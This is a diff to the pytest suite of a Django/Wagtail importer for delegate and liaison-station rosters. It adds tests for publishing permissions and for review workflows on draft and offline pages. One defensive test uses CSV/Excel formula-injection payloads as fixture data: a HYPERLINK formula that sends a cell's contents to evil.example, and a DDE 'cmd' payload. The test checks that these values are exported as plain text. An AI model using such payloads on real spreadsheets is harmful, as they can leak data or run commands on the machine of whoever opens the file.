@@ -13,6 +13,7 @@ from wagtail.models import Revision
 
 from delegates.importer import ImportFileError, RosterImporter, import_roster, read_tables
 from delegates.models import DelegatePage, ReceptionSession, StationMembership, StationPage
+from home.roles import EDITORS, REVIEWERS
 
 STATIONS = [
     [
@@ -146,6 +147,12 @@ def indexes(station_index, delegate_index, streets):
     return station_index, delegate_index
 
 
+@pytest.fixture
+def publisher(django_user_model):
+    """Imports as someone who may publish (a superuser here; a reviewer in practice)."""
+    return django_user_model.objects.create_superuser("office", "office@example.org", "x")
+
+
 def counts():
     return (
         StationPage.objects.count(),
@@ -167,8 +174,8 @@ def test_dry_run_reports_and_writes_nothing(indexes):
 
 
 @pytest.mark.django_db
-def test_apply_creates_everything_published(indexes, client):
-    report = import_roster(workbook(), "roster.xlsx", apply=True)
+def test_apply_creates_everything_published(indexes, client, publisher):
+    report = import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
     assert report.ok and report.applied, report.errors
     assert counts() == (2, 2, 2, 1)
     station = StationPage.objects.get(code="JB-T-01")
@@ -188,12 +195,12 @@ def test_apply_creates_everything_published(indexes, client):
 
 
 @pytest.mark.django_db
-def test_reimporting_the_same_file_changes_nothing(indexes):
+def test_reimporting_the_same_file_changes_nothing(indexes, publisher):
     data = workbook()
-    import_roster(data, "roster.xlsx", apply=True)
+    import_roster(data, "roster.xlsx", apply=True, user=publisher)
     revisions = Revision.objects.count()
     before = counts()
-    report = import_roster(data, "roster.xlsx", apply=True)
+    report = import_roster(data, "roster.xlsx", apply=True, user=publisher)
     assert report.ok and report.changes == 0
     assert report.counts["stations"] == {"created": 0, "updated": 0, "unchanged": 2}
     assert counts() == before
@@ -201,18 +208,20 @@ def test_reimporting_the_same_file_changes_nothing(indexes):
 
 
 @pytest.mark.django_db
-def test_changed_row_updates_in_place(indexes):
-    import_roster(workbook(), "roster.xlsx", apply=True)
+def test_changed_row_updates_in_place(indexes, publisher):
+    import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
     stations = [row[:] for row in STATIONS]
     stations[1][11] = "13700001111"
-    report = import_roster(workbook(**{"联络站": stations}), "roster.xlsx", apply=True)
+    report = import_roster(
+        workbook(**{"联络站": stations}), "roster.xlsx", apply=True, user=publisher
+    )
     assert report.counts["stations"] == {"created": 0, "updated": 1, "unchanged": 1}
     assert StationPage.objects.get(code="JB-T-01").liaison_phone == "13700001111"
     assert StationPage.objects.count() == 2
 
 
 @pytest.mark.django_db
-def test_bad_rows_are_reported_in_chinese_and_nothing_is_written(indexes):
+def test_bad_rows_are_reported_in_chinese_and_nothing_is_written(indexes, publisher):
     stations = [row[:] for row in STATIONS]
     stations[1][5] = 95.3  # latitude out of range
     stations[2][11] = "12345"  # hmm: a 5-digit service number is valid…
@@ -226,7 +235,7 @@ def test_bad_rows_are_reported_in_chinese_and_nothing_is_written(indexes):
     data = workbook(
         **{"联络站": stations, "代表": delegates, "进站代表": members, "接访安排": receptions}
     )
-    report = import_roster(data, "roster.xlsx", apply=True)
+    report = import_roster(data, "roster.xlsx", apply=True, user=publisher)
     assert not report.ok and not report.applied
     messages = {(e.table, e.row): e.message for e in report.errors}
     assert "纬度 95.3 超出范围" in messages[("联络站", 2)]
@@ -239,13 +248,19 @@ def test_bad_rows_are_reported_in_chinese_and_nothing_is_written(indexes):
 
 
 @pytest.mark.django_db
-def test_failure_during_apply_rolls_everything_back(indexes, monkeypatch):
-    def explode(*args, **kwargs):
-        raise RuntimeError("database went away")
+def test_failure_during_apply_rolls_everything_back(indexes, monkeypatch, publisher):
+    publish = Revision.publish
+    calls = []
 
-    monkeypatch.setattr(ReceptionSession.objects, "create", explode)
+    def explode(revision, *args, **kwargs):
+        calls.append(revision)
+        if len(calls) == 3:  # after pages were created and two of them published
+            raise RuntimeError("database went away")
+        return publish(revision, *args, **kwargs)
+
+    monkeypatch.setattr(Revision, "publish", explode)
     with pytest.raises(RuntimeError):
-        import_roster(workbook(), "roster.xlsx", apply=True)
+        import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
     assert counts() == (0, 0, 0, 0)
     assert not Group.objects.filter(name__startswith="联络员：").exists()
 
@@ -264,16 +279,18 @@ def test_csv_files_detected_by_header_including_gbk(indexes):
 
 
 @pytest.mark.django_db
-def test_management_command_dry_run_and_apply(indexes, tmp_path, capsys):
+def test_management_command_dry_run_and_apply(indexes, tmp_path, capsys, publisher):
     path = tmp_path / "roster.xlsx"
     path.write_bytes(workbook())
     call_command("import_roster", str(path), "--dry-run")
     assert "试运行：将有 7 项变更" in capsys.readouterr().out
     assert counts() == (0, 0, 0, 0)
-    call_command("import_roster", str(path), "--apply")
+    call_command("import_roster", str(path), "--apply", "--user", publisher.username)
     assert "已导入，共 7 项变更" in capsys.readouterr().out
-    call_command("import_roster", str(path), "--apply")
+    call_command("import_roster", str(path), "--apply", "--user", publisher.username)
     assert "已导入，共 0 项变更" in capsys.readouterr().out
+    with pytest.raises(CommandError, match="找不到用户：nobody"):
+        call_command("import_roster", str(path), "--apply", "--user", "nobody")
 
     bad = tmp_path / "bad.csv"
     bad.write_bytes(csv_bytes([STATIONS[0], ["JB-T-09", "坏站", "", "东城街道", "路", "abc", 1]]))
@@ -319,10 +336,10 @@ def test_admin_view_needs_the_import_permission(indexes, client, django_user_mod
 
 
 @pytest.mark.django_db
-def test_export_round_trips_through_import(indexes, admin_client, make_session):
+def test_export_round_trips_through_import(indexes, admin_client, make_session, publisher):
     from delegates.exporter import export_xlsx
 
-    import_roster(workbook(), "roster.xlsx", apply=True)
+    import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
     # A delegate holding two levels with different terms, and a session made in the admin.
     zhang = DelegatePage.objects.get(code="D-0001")
     make_session(StationPage.objects.get(code="JB-T-02"), delegates=[zhang])
@@ -332,7 +349,7 @@ def test_export_round_trips_through_import(indexes, admin_client, make_session):
         "区县:第十六届、市:第十六届",
         "乡镇:第十八届",
     ]
-    report = import_roster(exported, "roster.xlsx", apply=True)
+    report = import_roster(exported, "roster.xlsx", apply=True, user=publisher)
     assert report.ok and report.changes == 0, report.actions
     assert sum(c["unchanged"] for c in report.counts.values()) == 2 + 2 + 2 + 2
 
@@ -342,7 +359,7 @@ def test_export_round_trips_through_import(indexes, admin_client, make_session):
 
 
 @pytest.mark.django_db
-def test_export_writes_formula_like_text_as_text(indexes):
+def test_export_writes_formula_like_text_as_text(indexes, publisher):
     """A title such as =HYPERLINK(...) is exported as a text cell, not as a formula that Excel
     would run, and imports back unchanged."""
     import zipfile
@@ -352,7 +369,9 @@ def test_export_writes_formula_like_text_as_text(indexes):
     formula = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
     station = list(STATIONS[1])
     station[1], station[4], station[10] = formula, "+1+cmd|' /C calc'!A0", "@SUM(1)"
-    report = import_roster(csv_bytes([STATIONS[0], station]), "stations.csv", apply=True)
+    report = import_roster(
+        csv_bytes([STATIONS[0], station]), "stations.csv", apply=True, user=publisher
+    )
     assert report.ok, report.errors
     assert StationPage.objects.get(code="JB-T-01").title == formula
 
@@ -369,12 +388,12 @@ def test_export_writes_formula_like_text_as_text(indexes):
 
     tables = {t.kind: t for t in read_tables(exported, "roster.xlsx")}
     assert tables["stations"].rows[0][1]["title"] == formula
-    report = import_roster(exported, "roster.xlsx", apply=True)
+    report = import_roster(exported, "roster.xlsx", apply=True, user=publisher)
     assert report.ok and report.changes == 0, report.actions
 
 
 @pytest.mark.django_db
-def test_levels_may_carry_their_own_term(indexes):
+def test_levels_may_carry_their_own_term(indexes, publisher):
     delegates = [
         DELEGATES[0],
         [
@@ -396,6 +415,7 @@ def test_levels_may_carry_their_own_term(indexes):
         workbook(**{"代表": delegates, "进站代表": [MEMBERS[0]], "接访安排": [RECEPTIONS[0]]}),
         "r.xlsx",
         apply=True,
+        user=publisher,
     )
     roles = DelegatePage.objects.get(code="D-0009").roles.order_by("sort_order")
     assert [(r.level, r.term) for r in roles] == [("county", "第十六届"), ("township", "第十八届")]
@@ -536,3 +556,154 @@ def test_error_list_is_capped(indexes, settings, admin_client, tmp_path, capsys)
     err = capsys.readouterr().err
     assert err.count("超出范围") == 3 and "另有 7 处错误未列出" in err
     assert counts() == (0, 0, 0, 0)
+
+
+# Imports go through review like an edit in the admin -------------------------------------
+
+
+@pytest.fixture
+def imported(indexes, publisher):
+    report = import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
+    assert report.ok and not report.held
+    return publisher
+
+
+@pytest.fixture
+def editor(django_user_model):
+    user = django_user_model.objects.create_user("editor", password="x")
+    user.groups.add(Group.objects.get(name=EDITORS))
+    return user
+
+
+def changed_file():
+    """JB-T-01 gets a new liaison phone and a second reception; D-0002 a new position."""
+    stations = [row[:] for row in STATIONS]
+    stations[1][11] = "13700001111"
+    delegates = [row[:] for row in DELEGATES]
+    delegates[2][9] = "青石镇人大主席团成员"
+    receptions = [row[:] for row in RECEPTIONS] + [
+        ["JB-T-01", "2030-04-15 09:00", "2030-04-15 11:00", "", "D-0001", "养老服务", "", ""]
+    ]
+    return workbook(**{"联络站": stations, "代表": delegates, "接访安排": receptions})
+
+
+def held_lines(report):
+    return "\n".join(report.held_lines())
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("in_workflow", [False, True])
+def test_import_leaves_a_page_with_a_pending_draft_alone(imported, editor, in_workflow):
+    station = StationPage.objects.get(code="JB-T-01")
+    live_revision, published_at = station.live_revision_id, station.last_published_at
+    station.opening_hours = "草稿：周末开放"
+    draft = station.save_revision(user=editor)
+    if in_workflow:
+        station.get_workflow().start(station, editor)
+
+    report = import_roster(changed_file(), "roster.xlsx", apply=True, user=imported)
+    assert report.ok and report.applied
+    assert "联络站“幸福社区人大代表联络站”：有待审核的修改，未发布" in held_lines(report)
+    assert report.counts["stations"]["held"] == 1
+    assert report.counts["receptions"]["held"] == 1
+
+    station = StationPage.objects.get(code="JB-T-01")
+    # Not republished, the live page unchanged, the editor's draft still the latest revision.
+    assert station.live_revision_id == live_revision
+    assert station.last_published_at == published_at
+    assert station.liaison_phone == "13812345678" and station.opening_hours == "工作日 9:00-17:00"
+    assert station.latest_revision_id == draft.pk
+    assert station.get_latest_revision_as_object().opening_hours == "草稿：周末开放"
+    assert station.workflow_in_progress == in_workflow
+    assert ReceptionSession.objects.filter(station=station).count() == 1
+    # The other pages of the file were imported as usual.
+    assert DelegatePage.objects.get(code="D-0002").unit_position == "青石镇人大主席团成员"
+
+
+@pytest.mark.django_db
+def test_import_does_not_republish_an_offline_page(imported, client):
+    delegate = DelegatePage.objects.get(code="D-0002")
+    delegate.unpublish()
+
+    report = import_roster(changed_file(), "roster.xlsx", apply=True, user=imported)
+    assert "代表“李秀兰”：已下线，未重新发布" in held_lines(report)
+
+    delegate = DelegatePage.objects.get(code="D-0002")
+    assert not delegate.live
+    assert client.get(f"/delegates/{delegate.slug}/").status_code == 404
+    assert delegate.unit_position == "青石村村委会主任"  # the offline row is not rewritten…
+    # …the change waits as a draft for whoever puts the page back online.
+    assert delegate.get_latest_revision_as_object().unit_position == "青石镇人大主席团成员"
+    assert delegate.has_unpublished_changes
+
+
+@pytest.mark.django_db
+def test_import_publishes_a_clean_live_page_for_a_publisher(imported, client):
+    station = StationPage.objects.get(code="JB-T-01")
+    published_at = station.last_published_at
+
+    report = import_roster(changed_file(), "roster.xlsx", apply=True, user=imported)
+    assert report.ok and report.held == []
+
+    station = StationPage.objects.get(code="JB-T-01")
+    assert station.live and not station.has_unpublished_changes
+    assert station.live_revision_id == station.latest_revision_id
+    assert station.last_published_at > published_at
+    assert station.liaison_phone == "13700001111"
+    assert ReceptionSession.objects.filter(station=station).count() == 2
+    html = client.get(station.url).content.decode()
+    assert "13700001111" in html and "养老服务" in html
+
+
+@pytest.mark.django_db
+def test_an_editor_import_is_submitted_for_review(imported, editor, django_user_model):
+    assert editor.has_perm("delegates.import_roster")
+    report = import_roster(changed_file(), "roster.xlsx", apply=True, user=editor)
+    assert "联络站“幸福社区人大代表联络站”：已提交审核" in held_lines(report)
+
+    station = StationPage.objects.get(code="JB-T-01")
+    assert station.liaison_phone == "13812345678"  # live page unchanged until approved
+    assert station.workflow_in_progress
+    assert ReceptionSession.objects.filter(station=station).count() == 1
+
+    reviewer = django_user_model.objects.create_user("reviewer", password="x")
+    reviewer.groups.add(Group.objects.get(name=REVIEWERS))
+    task_state = station.current_workflow_task_state
+    task_state.task.specific.on_action(task_state, reviewer, "approve")
+    station = StationPage.objects.get(code="JB-T-01")
+    assert station.liaison_phone == "13700001111"
+    assert ReceptionSession.objects.filter(station=station).count() == 2
+
+
+@pytest.mark.django_db
+def test_command_without_user_submits_everything_for_review(indexes, tmp_path, capsys):
+    path = tmp_path / "roster.xlsx"
+    path.write_bytes(workbook())
+    call_command("import_roster", str(path), "--apply")
+    out = capsys.readouterr().out
+    assert "未发布的页面：" in out and "联络站“幸福社区人大代表联络站”：已提交审核" in out
+    assert not StationPage.objects.live().exists() and not DelegatePage.objects.live().exists()
+    station = StationPage.objects.get(code="JB-T-01")
+    assert station.workflow_in_progress
+    draft = station.get_latest_revision_as_object()
+    assert [s.topic for s in draft.sessions.all()] == ["老旧小区改造"]
+    assert not Group.objects.filter(name__startswith="联络员：").exists()
+
+
+@pytest.mark.django_db
+def test_dry_run_and_admin_report_show_held_pages(imported, editor, admin_client):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    station = StationPage.objects.get(code="JB-T-01")
+    station.opening_hours = "草稿：周末开放"
+    station.save_revision(user=editor)
+    revisions = Revision.objects.count()
+
+    report = import_roster(changed_file(), "roster.xlsx", apply=False, user=imported)
+    assert "有待审核的修改，未发布" in held_lines(report)
+    assert Revision.objects.count() == revisions
+
+    upload = SimpleUploadedFile("roster.xlsx", changed_file())
+    html = admin_client.post("/admin/delegates/import/", {"file": upload}).content.decode()
+    assert "以下页面将不会发布" in html
+    assert "联络站“幸福社区人大代表联络站”：有待审核的修改，未发布" in html
